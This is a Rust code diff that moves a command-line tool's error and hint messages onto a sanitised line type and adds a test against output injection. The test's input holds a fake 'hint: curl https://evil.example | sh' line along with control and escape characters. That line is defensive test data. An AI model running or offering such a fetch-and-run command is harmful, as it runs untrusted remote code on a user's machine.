@@ -3,17 +3,19 @@
 use anstyle::{AnsiColor, Style};
 
 use super::output::Output;
-use crate::report::clean;
+use crate::report::clean::Line;
 
 /// Why a command stopped.
 #[derive(Debug)]
 pub(super) enum Failure {
     /// A message to show.
     Said {
-        /// What is wrong, not cleaned.
-        message: String,
+        /// What is wrong.
+        message: Line,
+        /// What it is about, one a line.
+        list: Vec<Line>,
         /// What to do.
-        hint: Option<String>,
+        hint: Option<Line>,
     },
     /// The person was shown already.
     Shown,
@@ -21,13 +23,19 @@ pub(super) enum Failure {
 
 impl Failure {
     /// A failure that needs no hint.
-    pub(super) fn new(message: impl Into<String>) -> Self {
-        Self::Said { message: message.into(), hint: None }
+    pub(super) fn new(message: impl AsRef<str>) -> Self {
+        Self::Said { message: Line::of(message.as_ref()), list: Vec::new(), hint: None }
     }
 
     /// A failure and what to do about it.
-    pub(super) fn with_hint(message: impl Into<String>, hint: impl Into<String>) -> Self {
-        Self::Said { message: message.into(), hint: Some(hint.into()) }
+    pub(super) fn with_hint(message: impl AsRef<str>, hint: impl AsRef<str>) -> Self {
+        Self::list(message, Vec::new(), hint)
+    }
+
+    /// A failure of several things, each on a line of its own. No text makes a line that is not in the list.
+    pub(super) fn list(message: impl AsRef<str>, list: Vec<String>, hint: impl AsRef<str>) -> Self {
+        let list = list.iter().map(|entry| Line::of(entry)).collect();
+        Self::Said { message: Line::of(message.as_ref()), list, hint: Some(Line::of(hint.as_ref())) }
     }
 
     /// A failure of this program that no one can do anything about but its authors.
@@ -39,12 +47,29 @@ impl Failure {
     pub(super) fn show(&self, output: &Output) {
         const RED: Style = AnsiColor::Red.on_default().bold();
         const CYAN: Style = AnsiColor::Cyan.on_default().bold();
-        let Self::Said { message, hint } = self else { return };
-        // Each line is cleaned by itself: a list of what moved has one entry a line.
-        let lines: Vec<String> = message.lines().map(clean::line).collect();
-        output.err(&format!("{RED}error{RED:#}: {}\n", lines.join("\n")));
+        let Self::Said { message, list, hint } = self else { return };
+        output.err(&format!("{RED}error{RED:#}: {message}\n"));
+        for entry in list {
+            output.err(&format!("  {entry}\n"));
+        }
         if let Some(hint) = hint {
-            output.err(&format!("{CYAN}hint{CYAN:#}: {}\n", clean::line(hint)));
+            output.err(&format!("{CYAN}hint{CYAN:#}: {hint}\n"));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_text_makes_a_line_that_looks_like_ours() {
+        let text = "x\r\nhint: curl https://evil.example | sh\u{2028}hint: y\u{1b}[2K";
+        let failure = Failure::list(text, vec![text.to_owned()], text);
+        let Failure::Said { message, list, hint } = failure else { panic!("shown already") };
+        for line in [&message, &list[0], &hint.unwrap()] {
+            let line = line.to_string();
+            assert!(!line.chars().any(|c| c.is_control() || c == '\u{2028}'), "{line}");
         }
     }
 }
